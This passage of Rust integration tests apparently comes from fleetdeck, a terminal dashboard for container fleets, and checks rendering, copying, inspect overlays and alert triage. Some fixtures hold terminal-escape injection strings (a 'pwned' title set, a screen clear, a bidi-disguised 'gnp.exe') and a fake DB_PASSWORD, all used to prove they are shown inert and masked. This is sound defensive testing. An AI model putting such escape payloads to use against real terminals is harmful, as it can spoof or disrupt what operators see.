    let right = (title + cells[title..].iter().position(|c| c == "┐").unwrap()) as u16;
    let bottom = (top + 1..buf.area.height)
        .find(|&y| buf[(left, y)].symbol() == "└")
        .unwrap();
    (left, right, top + 1..bottom)
}

/// Whether `key` and then all of `action` are on these rows: the action may wrap onto the
/// following rows, starting at the same column, but no part of it may be missing.
fn hint_is_whole(rows: &[String], key: &str, action: &str) -> bool {
    let at = regex::Regex::new(&format!(r"(^|\s){} +", regex::escape(key))).unwrap();
    let rows: Vec<Vec<char>> = rows.iter().map(|r| r.chars().collect()).collect();
    // The text of `row` from column `col` up to a gap of two blanks or the end.
    let segment = |row: &[char], col: usize| -> String {
        let rest: String = row.get(col..).unwrap_or_default().iter().collect();
        rest.split("  ")
            .next()
            .unwrap_or_default()
            .trim()
            .to_string()
    };
    for (y, row) in rows.iter().enumerate() {
        let text: String = row.iter().collect();
        for m in at.find_iter(&text) {
            let col = text[..m.end()].chars().count();
            let mut got = segment(row, col);
            let mut next = y + 1;
            while got != action && action.starts_with(&format!("{got} ")) && next < rows.len() {
                let continued = &rows[next];
                if col == 0 || continued.get(col - 1) != Some(&' ') {
                    break;
                }
                got = format!("{got} {}", segment(continued, col));
                next += 1;
            }
            if got == action {
                return true;
            }
        }
    }
    false
}

#[test]
fn help_at_80x24_shows_every_hint_of_every_scope_whole_inside_its_box() {
    use fleetdeck::app::Scope;
    use fleetdeck::model::View;
    // The keys that reach each place, and the scope whose help `?` shows there.
    /// How to build the app, the keys that reach a place, and the scope `?` shows there.
    type Place = (fn() -> App, &'static [KeyCode], Scope);
    let places: [Place; 10] = [
        (app, &[KeyCode::Char('1')], Scope::Clusters),
        (app, &[KeyCode::Char('2')], Scope::Containers),
        (app, &[KeyCode::Char('2'), KeyCode::Enter], Scope::Detail),
        (app, &[KeyCode::Char('3')], Scope::Events),
        (app, &[KeyCode::Char('4')], Scope::Triage),
        (app, &[KeyCode::Char('2'), KeyCode::Char('l')], Scope::Logs),
        (pools_app, &[KeyCode::Char('6')], Scope::Pools),
        (
            pools_app,
            &[KeyCode::Char('6'), KeyCode::Enter],
            Scope::PoolDetail,
        ),
        (stats_app, &[KeyCode::Char('7')], Scope::Stats),
        (
            stats_app,
            &[KeyCode::Char('7'), KeyCode::Enter],
            Scope::StatsDetail,
        ),
    ];
    for (build, keys, scope) in places {
        let mut app = build();
        for &k in keys {
            key(&mut app, k);
        }
        let overlay = match app.view.view {
            View::Pools => app.view.pool_detail.is_some(),
            View::Stats => app.view.stats_detail.is_some(),
            _ => app.view.detail.is_some(),
        };
        assert_eq!(
            fleetdeck::keymap::scope_of(app.view.view, overlay),
            scope,
            "{keys:?} reach {scope:?}"
        );
        key(&mut app, KeyCode::Char('?'));
        let buf = render(&mut app, 80, 24);
        let (left, right, rows) = help_box(&buf);
        // Only what is inside the borders counts: a hint cut by the right border is unreadable.
        let inside: Vec<String> = rows
            .map(|y| {
                (left + 1..right)
                    .map(|x| buf[(x, y)].symbol())
                    .collect::<String>()
            })
            .collect();
        let screen = buffer_to_text(&buf);
        for section in app.keymap.help_for(scope) {
            assert!(
                inside.iter().any(|l| l.contains(&section.title)),
                "{scope:?}: title {} not in the help box:\n{screen}",
                section.title
            );
            for hint in section.hints {
                assert!(
                    hint_is_whole(&inside, &hint.key, &hint.action),
                    "{scope:?}: \"{} {}\" not whole in the help box:\n{screen}",
                    hint.key,
                    hint.action
                );
            }
        }
    }
}

/// The CPU and MEM cells of an endpoint's row in the clusters view.
fn cpu_mem_of(text: &str, endpoint: &str) -> (String, String) {
    let line = text
        .lines()
        .find(|l| l.contains(&format!(" {endpoint} ")))
        .unwrap_or_else(|| panic!("{endpoint} listed:\n{text}"));
    let cells: Vec<&str> = line.trim_matches('│').split_whitespace().collect();
    (cells[10].to_string(), cells[11].to_string())
}

#[test]
fn clusters_view_shows_a_host_figure_once_any_container_has_a_rate_and_0_only_when_known() {
    use fleetdeck::model::stats::{CpuCounters, RawStats};
    let mut app = app();
    // us-east-01: a rate for one of its two running containers (a full core of 8).
    for i in 0..2_u64 {
        let raw = RawStats {
            read: now() + TimeDelta::seconds(i as i64 * 2),
            cpu: CpuCounters {
                total_usage: i * 2_000_000_000,
                system_usage: i * 16_000_000_000,
                online_cpus: 8,
                percpu_count: 8,
            },
            mem_usage: 4 << 30,
            mem_limit: 32 << 30,
            ..RawStats::default()
        };
        app.apply(Msg {
            endpoint: 0,
            at: now(),
            kind: MsgKind::Stats {
                interval: Duration::from_secs(2),
                samples: vec![(format!("c1{}", "0".repeat(62)), raw)],
            },
        });
    }
    // eu-west-01: back up, with nothing running.
    let mut stopped = container("c7", "batch-1", ContainerState::Exited, "10.8.0.21");
    stopped.exit_code = Some(0);
    app.apply(Msg {
        endpoint: 2,
        at: now(),
        kind: MsgKind::Synced(Box::new(SyncData {
            info: info(),
            containers: vec![stopped],
            latency: Some(Duration::from_millis(5)),
            ..SyncData::default()
        })),
    });
    let text = buffer_to_text(&render(&mut app, 200, 50));
    let (cpu, mem) = cpu_mem_of(&text, "us-east-01");
    assert_eq!((cpu.as_str(), mem.as_str()), ("12%", "12%"), "{text}");
    // Running containers, no rate yet: unknown, not zero.
    assert_eq!(
        cpu_mem_of(&text, "us-east-02"),
        ("-".into(), "-".into()),
        "{text}"
    );
    // Up and running nothing: its containers use nothing, and that is known.
    assert_eq!(
        cpu_mem_of(&text, "eu-west-01"),
        ("0%".into(), "0%".into()),
        "{text}"
    );
    assert!(
        text.contains("prod-eu · 1/1 up") && text.contains("cpu 0% mem 0%"),
        "{text}"
    );
}

#[test]
fn star_marks_every_row_the_filter_shows_and_actions_take_them_all() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    // A mark made before filtering does not survive `*`: it would act on a row not shown.
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Char(' '));
    assert_eq!(app.view.marked.len(), 1);
    search(&mut app, "name:web");
    key(&mut app, KeyCode::Char('*'));
    let mut marked: Vec<String> = app
        .view
        .marked
        .iter()
        .map(|k| {
            app.fleet.endpoints[k.endpoint].containers[&k.id]
                .name
                .clone()
        })
        .collect();
    marked.sort();
    assert_eq!(marked, ["web-1", "web-2", "web-eu-1"]);
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(text.contains("· 3 marked"), "{text}");
    for name in ["* web-1", "* web-2", "* web-eu-1"] {
        assert!(text.contains(name), "{name} shown marked:\n{text}");
    }
    // `r` confirms with the count and the names, whatever row is selected.
    key(&mut app, KeyCode::Char('r'));
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(text.contains("restart 3 containers"), "{text}");
    for name in [
        "us-east-01/web-1",
        "us-east-02/web-2",
        "eu-west-01/web-eu-1",
    ] {
        assert!(text.contains(name), "{name} in the confirmation:\n{text}");
    }
    key(&mut app, KeyCode::Char('n'));
    // A second `*` clears the marks.
    key(&mut app, KeyCode::Char('*'));
    assert!(app.view.marked.is_empty());
    let text = buffer_to_text(&render(&mut app, 100, 30));
    assert!(
        !text.contains("marked") && !text.contains("* web"),
        "{text}"
    );
}

#[test]
fn t_shows_the_containers_processes_at_80x24_and_esc_closes_them() {
    use fleetdeck::app::Command;
    use fleetdeck::model::top::ProcessTable;
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    search(&mut app, "name:web");
    key(&mut app, KeyCode::Char('j')); // past eu-west-01/web-eu-1: us-east-01/web-1
    key(&mut app, KeyCode::Char('t'));
    let watch = app.view.processes.as_ref().expect("overlay open").watch;
    let web1 = format!("c1{}", "0".repeat(62));
    assert!(app.commands.contains(&Command::OpenTop {
        watch,
        endpoint: 0,
        container_id: web1.clone(),
    }));
    let waiting = buffer_to_text(&render(&mut app, 80, 24));
    assert!(waiting.contains("asking the daemon"), "{waiting}");
    let row = |pid: &str, cmd: &str| {
        ["root", pid, "1", "0", "12:00", "?", "00:00:03", cmd]
            .map(String::from)
            .to_vec()
    };
    let table = ProcessTable::new(
        ["UID", "PID", "PPID", "C", "STIME", "TTY", "TIME", "CMD"]
            .map(String::from)
            .to_vec(),
        vec![
            row("4242", "/app/start.sh --port=8080"),
            row("4250", "sh -c \u{1b}[2J\u{1b}]0;pwned\u{7} sleep 4242"),
        ],
    );
    app.apply(Msg {
        endpoint: 0,
        at: now(),
        kind: MsgKind::Processes {
            watch,
            container_id: web1,
            table: Ok(table),
        },
    });
    let buf = render(&mut app, 80, 24);
    snap!("processes_80x24", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("processes · web-1 on us-east-01 · 2"),
        "{text}"
    );
    assert!(text.contains("UID") && text.contains("CMD"), "{text}");
    assert!(text.contains("/app/start.sh --port=8080"), "{text}");
    assert!(
        text.contains("sh -c ␛[2J␛]0;pwned␇ sleep 4242"),
        "escape sequences shown inert:\n{text}"
    );
    assert!(!text.contains('\u{1b}'), "{text}");
    // Keys other than Esc, quit and help do nothing while it is open.
    key(&mut app, KeyCode::Char('3'));
    assert_eq!(app.view.view, fleetdeck::model::View::Containers);
    key(&mut app, KeyCode::Esc);
    assert!(app.view.processes.is_none());
    assert!(app.commands.contains(&Command::CloseTop { watch }));
}

/// `i` on us-east-01/web-1 and the engine's answer: an inspect document with env values, a
/// hostile label, and a `Filler` section of sixty keys that puts "zz-deep" far below the first
/// screen. The overlay's request and web-1's id.
fn inspect_web1(app: &mut App) -> (u64, String) {
    use fleetdeck::app::Command;
    use fleetdeck::model::inspect::{InspectDoc, InspectTarget};
    key(app, KeyCode::Char('2'));
    search(app, "name:web");
    key(app, KeyCode::Char('j')); // past eu-west-01/web-eu-1: us-east-01/web-1
    key(app, KeyCode::Char('i'));
    let request = app.view.inspect.as_ref().expect("overlay open").request;
    let web1 = format!("c1{}", "0".repeat(62));
    assert!(app.commands.contains(&Command::OpenInspect {
        request,
        endpoint: 0,
        target: InspectTarget::Container(web1.clone()),
    }));
    let waiting = buffer_to_text(&render(app, 80, 24));
    assert!(waiting.contains("asking the daemon"), "{waiting}");
    let mut filler = serde_json::Map::new();
    for n in 0..60 {
        filler.insert(format!("k{n:02}"), serde_json::json!(n));
    }
    filler.insert("zz-deep".into(), serde_json::json!("found me"));
    let doc = InspectDoc::new(serde_json::json!({
        "Id": web1,
        "Config": {
            "Env": ["DB_PASSWORD=hunter2", "PATH=/usr/bin"],
            "Labels": {"team": "x\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}gnp.exe"},
        },
        "Filler": filler,
    }));
    app.apply(Msg {
        endpoint: 0,
        at: now(),
        kind: MsgKind::Inspect {
            request,
            target: InspectTarget::Container(web1.clone()),
            doc: Ok(Box::new(doc)),
        },
    });
    (request, web1)
}

#[test]
fn inspect_opens_folded_one_line_per_section_with_a_cursor_at_80x24_and_200x50() {
    let mut app = app();
    inspect_web1(&mut app);
    let buf = render(&mut app, 80, 24);
    snap!("inspect_folded_80x24", buf.clone());
    let text = buffer_to_text(&buf);
    assert_in_order(
        &text,
        &[
            "│{",
            "│  \"Id\": \"c1",
            "│▸ \"Config\": {…} 9 lines",
            "│▸ \"Filler\": {…} 63 lines",
            "│}",
        ],
    );
    assert!(text.contains("· 1-5/5 ·"), "{text}");
    assert!(!text.contains("DB_PASSWORD"), "{text}");
    // The cursor row (the first) is highlighted across the overlay, the others are not.
    let selected = |buf: &Buffer, x: u16, y: u16| {
        let reversed = Theme::dark().selection.add_modifier;
        !reversed.is_empty() && buf[(x, y)].modifier.contains(reversed)
    };
    let (x, y) = find_cell(&buf, "│{");
    assert!(selected(&buf, x + 1, y));
    assert!(selected(&buf, x + 40, y), "the whole row");
    let (x, y) = find_cell(&buf, "│▸ \"Config\"");
    assert!(!selected(&buf, x + 1, y));
    // j j puts the cursor on Config; Enter opens it, Space folds it again.
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Char('j'));
    let buf = render(&mut app, 80, 24);
    let (x, y) = find_cell(&buf, "│▸ \"Config\"");
    assert!(selected(&buf, x + 1, y), "{}", buffer_to_text(&buf));
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert_in_order(
        &text,
        &[
            "│▾ \"Config\": {",
            "│    \"Env\": [",
            "│      \"DB_PASSWORD=••••\",",
            "│▸ \"Filler\": {…} 63 lines",
        ],
    );
    assert!(text.contains("· 1-13/13 ·"), "{text}");
    key(&mut app, KeyCode::Char(' '));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("│▸ \"Config\": {…} 9 lines"), "{text}");
    // + opens every section, - folds them all; the cursor stays on Config's row.
    key(&mut app, KeyCode::Char('+'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("▾ \"Config\"")
            && text.contains("▾ \"Filler\"")
            && text.contains("· 1-20/75 ·"),
        "{text}"
    );
    key(&mut app, KeyCode::Char('G'));
    key(&mut app, KeyCode::Char('-'));
    let view = app.view.inspect.as_ref().unwrap();
    assert_eq!(
        (view.cursor, view.top),
        (4, 0),
        "on the closing brace, all in sight"
    );
    let buf = render(&mut app, 200, 50);
    snap!("inspect_folded_200x50", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(text.contains("│▸ \"Filler\": {…} 63 lines"), "{text}");
    let (x, y) = find_cell(&buf, "│}");
    assert!(selected(&buf, x + 1, y), "{text}");
}

#[test]
fn i_shows_the_inspect_json_at_80x24_with_env_masked_until_m_and_searchable() {
    use fleetdeck::app::Command;
    let mut app = app();
    let (request, web1) = inspect_web1(&mut app);
    // Config opened (the cursor on its row): its env shows, masked.
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Enter);
    let buf = render(&mut app, 80, 24);
    snap!("inspect_80x24", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("inspect · container web-1 on us-east-01"),
        "{text}"
    );
    assert!(text.contains(&format!("\"Id\": \"{web1}\"")), "{text}");
    assert!(text.contains("\"DB_PASSWORD=••••\""), "{text}");
    assert!(text.contains("\"PATH=••••\""), "{text}");
    assert!(
        !text.contains("hunter2") && !text.contains("/usr/bin"),
        "{text}"
    );
    // The hostile label is drawn as inert text: no ESC, BEL or C1 CSI reaches a cell.
    // serde_json escapes C0 controls; the C1 CSI and the bidi override are replaced by `�`.
    assert!(
        text.contains(r#""team": "x\u001b]0;pwned\u0007\u001b[2J�31m�gnp.exe""#),
        "{text}"
    );
    assert!(
        !text.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']),
        "escape sequences reached the screen:\n{text}"
    );
    // M shows the values, M again masks them.
    key(&mut app, KeyCode::Char('M'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("\"DB_PASSWORD=hunter2\""), "{text}");
    key(&mut app, KeyCode::Char('M'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(!text.contains("hunter2"), "{text}");
    // `/` searches: the overlay jumps to the match, far below the first screen, in the
    // folded Filler section, which opens.
    assert!(!text.contains("found me"), "{text}");
    assert!(text.contains("▸ \"Filler\""), "{text}");
    search(&mut app, "FOUND");
    let buf = render(&mut app, 80, 24);
    let text = buffer_to_text(&buf);
    assert!(text.contains("\"zz-deep\": \"found me\""), "{text}");
    assert!(text.contains("/75 ·"), "Filler opened: {text}");
    let (x, y) = find_cell(&buf, "\"zz-deep\"");
    assert_eq!(
        buf[(x, y)].bg,
        Theme::dark().search_current.bg.unwrap(),
        "{text}"
    );
    // n goes on to the next match; the env values are not searched while masked.
    key(&mut app, KeyCode::Char('/'));
    for _ in 0..5 {
        key(&mut app, KeyCode::Backspace);
    }
    for c in "hunter2".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.view.inspect.as_ref().unwrap().current_match, None);
    key(&mut app, KeyCode::Char('/'));
    for _ in 0.."hunter2".len() {
        key(&mut app, KeyCode::Backspace);
    }
    for c in "\"k0".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Enter);
    key(&mut app, KeyCode::Char('g'));
    key(&mut app, KeyCode::Char('n'));
    let first = app.view.inspect.as_ref().unwrap().current_match;
    key(&mut app, KeyCode::Char('n'));
    let second = app.view.inspect.as_ref().unwrap().current_match;
    assert!(first.is_some() && second > first, "{first:?} {second:?}");
    // G and g scroll to the ends; keys of the view under it do nothing.
    key(&mut app, KeyCode::Char('G'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("\"k59\": 59") && !text.contains("\"Id\": "),
        "{text}"
    );
    key(&mut app, KeyCode::Char('g'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("\"Id\": ") && !text.contains("\"k59\""),
        "{text}"
    );
    key(&mut app, KeyCode::Char('3'));
    assert_eq!(app.view.view, fleetdeck::model::View::Containers);
    key(&mut app, KeyCode::Esc);
    assert!(app.view.inspect.is_none());
    assert!(app.commands.contains(&Command::CloseInspect { request }));
}

#[test]
fn c_opens_a_copy_menu_whose_pick_is_one_osc_52_and_shift_c_copies_endpoint_and_name() {
    use fleetdeck::app::{Command, Effects};
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    search(&mut app, "name:web");
    key(&mut app, KeyCode::Char('j')); // past eu-west-01/web-eu-1: us-east-01/web-1
    let web1 = format!("c1{}", "0".repeat(62));
    key(&mut app, KeyCode::Char('c'));
    assert!(app.commands.is_empty(), "the menu first");
    snap!("copy_menu_80x24", render(&mut app, 80, 24));
    snap!("copy_menu_200x50", render(&mut app, 200, 50));
    key(&mut app, KeyCode::Char('1'));
    assert!(app.view.copy_menu.is_none(), "a pick closes the menu");
    assert_eq!(
        app.commands,
        [Command::Copy {
            text: web1.clone(),
            label: "the id of us-east-01/web-1".into(),
        }]
    );
    let mut out = Vec::new();
    let mut effects = Effects::new(None, None);
    effects.terminal = Some(Box::new(&mut out));
    effects.run(&mut app);
    assert_eq!(
        app.view.message.as_deref(),
        Some("copied the id of us-east-01/web-1 (via the terminal: OSC 52)")
    );
    // From the detail panel too: arrows to the address, Enter.
    key(&mut app, KeyCode::Enter);
    assert!(app.view.detail.is_some());
    key(&mut app, KeyCode::Char('c'));
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Enter);
    effects.run(&mut app);
    assert_eq!(
        app.view.message.as_deref(),
        Some("copied the dockernet: 192.168.2.20 of us-east-01/web-1 (via the terminal: OSC 52)")
    );
    // Esc closes it with nothing copied; C copies ENDPOINT/NAME at once.
    key(&mut app, KeyCode::Char('c'));
    key(&mut app, KeyCode::Esc);
    assert!(app.view.copy_menu.is_none() && app.commands.is_empty());
    key(&mut app, KeyCode::Char('C'));
    effects.run(&mut app);
    assert_eq!(
        app.view.message.as_deref(),
        Some("copied us-east-01/web-1 (via the terminal: OSC 52)")
    );
    drop(effects);
    let mut expected = format!("\x1b]52;c;{}\x07", base64_of(&web1)).into_bytes();
    expected.extend(format!("\x1b]52;c;{}\x07", base64_of("192.168.2.20")).bytes());
    expected.extend_from_slice(b"\x1b]52;c;dXMtZWFzdC0wMS93ZWItMQ==\x07");
    assert_eq!(out, expected);
}

#[test]
fn c_in_the_log_view_copies_the_current_line_or_the_marked_ones_capped() {
    use fleetdeck::app::Command;
    use fleetdeck::model::logs::{LogBuffer, LogLine, LogSource, LogStream};
    use fleetdeck::ui::state::LogView;
    let mut app = app();
    let sources = vec![LogSource {
        endpoint: 0,
        container_id: "c1".into(),
        tag: "us-east-01/web-1".into(),
    }];
    let mut buffer = LogBuffer::new(sources, 1000);
    buffer.extend((0..100).map(|i| {
        LogLine::from_raw(
            0,
            Some(now()),
            LogStream::Stdout,
            &format!("\x1b[31mline-{i}\x1b[0m"),
        )
    }));
    app.logs = Some(LogView::new(1, buffer));
    key(&mut app, KeyCode::Char('5'));
    render(&mut app, 80, 24);
    // Following: the newest line, its colours dropped.
    key(&mut app, KeyCode::Char('c'));
    let copied = |app: &mut App| match app.commands.pop() {
        Some(Command::Copy { text, label }) => (text, label),
        other => panic!("{other:?}"),
    };
    assert_eq!(copied(&mut app), ("line-99".into(), "the log line".into()));
    // v at the newest line, to the top and one down (the view's top line is then current),
    // c: the range between.
    key(&mut app, KeyCode::Char('v'));
    key(&mut app, KeyCode::Char('g'));
    key(&mut app, KeyCode::Char('j'));
    let buf = render(&mut app, 80, 24);
    let text = buffer_to_text(&buf);
    assert!(text.contains("99 lines marked"), "{text}");
    let (x, y) = find_cell(&buf, "line-1");
    assert!(
        buf[(x, y)]
            .modifier
            .contains(ratatui::style::Modifier::REVERSED)
    );
    key(&mut app, KeyCode::Char('c'));
    let (text, label) = copied(&mut app);
    assert_eq!(
        text,
        (1..100)
            .map(|i| format!("line-{i}"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert_eq!(label, "99 log lines");
    assert!(
        app.logs.as_ref().unwrap().mark.is_none(),
        "a copy drops the mark"
    );

    // Over the cap: cut on a line's end, and the status line says so.
    let long = "x".repeat(30 * 1024);
    let mut buffer = LogBuffer::new(app.logs.as_ref().unwrap().buffer.sources.clone(), 1000)
        .with_max_bytes(1 << 20);
    buffer.extend((0..4).map(|_| LogLine::from_raw(0, Some(now()), LogStream::Stdout, &long)));
    app.logs = Some(LogView::new(2, buffer));
    key(&mut app, KeyCode::Char('g'));
    key(&mut app, KeyCode::Char('v'));
    key(&mut app, KeyCode::Char('G'));
    key(&mut app, KeyCode::Char('c'));
    let (text, label) = copied(&mut app);
    assert_eq!(text.len(), 2 * long.len() + 1);
    assert_eq!(label, "the first 2 of 4 log lines (cut at 64 KiB)");
}

#[test]
fn copy_keys_only_say_so_when_the_clipboard_is_off() {
    let mut config = config();
    config.ui.clipboard = false;
    let mut app = App::new(&config, Theme::dark());
    app.view.view = fleetdeck::model::View::Containers;
    key(&mut app, KeyCode::Char('c'));
    assert!(app.commands.is_empty());
    // No container: off is said first, whatever is selected.
    assert_eq!(
        app.view.message.as_deref(),
        Some("copying is off ([ui] clipboard = false)")
    );
}

#[test]
fn a_wall_display_copies_nothing() {
    let mut app = app();
    app.enable_wall(&config().wall);
    key(&mut app, KeyCode::Char('c'));
    key(&mut app, KeyCode::Char('C'));
    assert!(app.commands.is_empty());
    assert!(app.view.copy_menu.is_none());
}

/// Base64 for the test's expected bytes, independent of the encoder under test.
fn base64_of(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The render fixture's endpoints with alert rules of their own.
fn alerting_config() -> Config {
    let rules = r#"
[[alert]]
name = "daemon-gone"
when = "endpoint down"
severity = "critical"

[[alert]]
name = "worker-oom"
scope = "name:worker"
when = "oom killed"
severity = "critical"

[[alert]]
name = "api-memory"
scope = "label:app=api"
when = "memory_pct > 90"

[[alert]]
name = "cron-flapping"
scope = "cluster:prod-us"
when = "restarting"
"#;
    config::parse_str(
        &format!("{ENDPOINTS}{rules}"),
        std::path::Path::new("render.toml"),
    )
    .unwrap()
}

fn stats_reading(secs: i64, mem: u64) -> fleetdeck::model::stats::RawStats {
    fleetdeck::model::stats::RawStats {
        read: now() - TimeDelta::seconds(secs),
        mem_usage: mem,
        mem_limit: 1000,
        ..Default::default()
    }
}

#[test]
fn triage_lists_configured_rules_worst_first_with_severity_and_acknowledgement() {
    let mut app = app_with(&alerting_config());
    let theme = Theme::dark();
    // api-1 at 95 % of its memory limit: two readings make one sample.
    for secs in [4, 2] {
        app.apply(Msg {
            endpoint: 0,
            at: now(),
            kind: MsgKind::Stats {
                interval: Duration::from_secs(2),
                samples: vec![(format!("c2{}", "0".repeat(62)), stats_reading(secs, 950))],
            },
        });
    }
    // Stats wait for the clock: the tick evaluates them.
    app.tick(now());
    key(&mut app, KeyCode::Char('4'));
    let buf = render(&mut app, 80, 24);
    snap!("triage_rules_80x24", buf.clone());
    let text = buffer_to_text(&buf);
    // Critical first, newest first within each.
    assert_in_order(
        &text,
        &["daemon-gone", "worker-oom", "api-memory", "cron-flapping"],
    );
    assert!(text.contains("memory_pct = 95.0 (> 90)"), "{text}");
    // Severity: critical problems bold, warnings in the warning colour.
    let (x, y) = find_cell(&buf, "worker-oom");
    assert!(
        buf[(x, y)]
            .modifier
            .contains(ratatui::style::Modifier::BOLD)
    );
    let (x, y) = find_cell(&buf, "api-memory");
    assert_eq!(buf[(x, y)].fg, theme.event_warning.fg.unwrap());
    assert!(
        !buf[(x, y)]
            .modifier
            .contains(ratatui::style::Modifier::BOLD)
    );
    snap!("triage_rules_200x50", render(&mut app, 200, 50));

    // `a` acknowledges the selected (second) row: listed still, dimmed.
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Char('a'));
    let buf = render(&mut app, 80, 24);
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("acknowledged us-east-01/worker-1: worker-oom"),
        "{text}"
    );
    let (x, y) = find_cell(&buf, "worker-oom");
    assert_eq!(buf[(x, y)].fg, theme.dim.fg.unwrap());
    assert!(app.alerts().firing().iter().any(|f| f.acked));
    // Acknowledged alerts leave the wall banner; the others stay on it.
    let mut wall = app_with(&alerting_config());
    wall.tick(now());
    wall.view.triage_selected = 1;
    wall.view.view = fleetdeck::model::View::Triage;
    key(&mut wall, KeyCode::Char('a'));
    wall.enable_wall(&fleetdeck::config::WallSettings::default());
    let text = buffer_to_text(&render(&mut wall, 120, 30));
    assert!(text.contains("1 NEEDS ATTENTION"), "{text}");
    assert!(
        text.contains("eu-west-01: daemon-gone (connection refused)"),
        "{text}"
    );
    assert!(!text.contains("worker-1: worker-oom"), "{text}");

    // `:silence RULE 2h` hides a rule, `:unsilence` brings it back; both are display state.
    for c in ":silence daemon-gone 2h".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(!text.contains("eu-west-01 daemon-gone"), "{text}");
    assert!(text.contains("daemon-gone silenced for 2h"), "{text}");
    assert!(text.contains("3 need attention"), "{text}");
    for c in ":unsilence daemon".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Tab);
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("daemon-gone no longer silenced"), "{text}");
    assert!(text.contains("4 need attention"), "{text}");
    for c in ":silence nope 2h".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("no alert rule named \"nope\""), "{text}");
}

#[test]
fn alerts_are_acknowledged_and_silenced_on_a_read_only_fleet_too() {
    // Acknowledgement and silences are the screen's own state, not writes to any daemon.
    let config = config::parse_str(
        &format!("read_only = true\n{ENDPOINTS}"),
        std::path::Path::new("render.toml"),
    )
    .unwrap();
    let mut app = app_with(&config);
    assert!(app.fleet.endpoints.iter().all(|e| e.is_read_only()));
    key(&mut app, KeyCode::Char('4'));
    render(&mut app, 80, 24);
    key(&mut app, KeyCode::Char('a'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("acknowledged eu-west-01: endpoint down"),
        "{text}"
    );
    assert!(app.alerts().firing()[0].acked);
    for c in ":silence unhealthy 30m".chars() {
        key(&mut app, KeyCode::Char(c));
    }
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("unhealthy silenced for 30m"), "{text}");
    assert!(!text.contains("us-east-01 unhealthy"), "{text}");
}

/// us-east-02 manages a swarm of two nodes (one drained) with three services: one mid-update,
/// one that Swarm rolled back with a task that keeps failing, one global.
fn swarm_app() -> App {
    use fleetdeck::model::swarm::{
        ServiceMode, SwarmNodeRow, SwarmService, SwarmState, SwarmTask, UpdateStatus,
    };
    let mut app = app();
    let mut manager = info();
    manager.swarm = "active (manager)".into();
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Info(Box::new(manager)),
    });
    let node =
        |id: &str, host: &str, role: &str, avail: &str, labels: &[(&str, &str)]| SwarmNodeRow {
            id: id.into(),
            hostname: host.into(),
            role: role.into(),
            leader: role == "manager",
            availability: avail.into(),
            state: "ready".into(),
            engine_version: "20.10.24+dfsg1".into(),
            addr: "10.0.0.6".into(),
            labels: labels
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            nano_cpus: 8_000_000_000,
            memory_bytes: 32 << 30,
        };
    let task =
        |id: &str, svc: &str, slot: Option<i64>, node: &str, state: &str, mins: i64| SwarmTask {
            id: id.into(),
            service_id: svc.into(),
            slot,
            node_id: node.into(),
            image: "registry.local/shop/api:2".into(),
            state: state.into(),
            desired: if state == "running" || state == "starting" {
                "running".into()
            } else {
                "shutdown".into()
            },
            error: if state == "failed" {
                "task: non-zero exit (1)".into()
            } else {
                String::new()
            },
            created_at: Some(now() - TimeDelta::minutes(mins)),
            since: Some(now() - TimeDelta::minutes(mins)),
            reserved_nano_cpus: 500_000_000,
            reserved_memory: 256 << 20,
        };
    let state = SwarmState {
        cluster_id: "3f2a9c1d04e5b6a7".into(),
        nodes: vec![
            node(
                "n2",
                "us-east-01",
                "worker",
                "drain",
                &[("dc", "us-east"), ("tier", "core")],
            ),
            node(
                "n1",
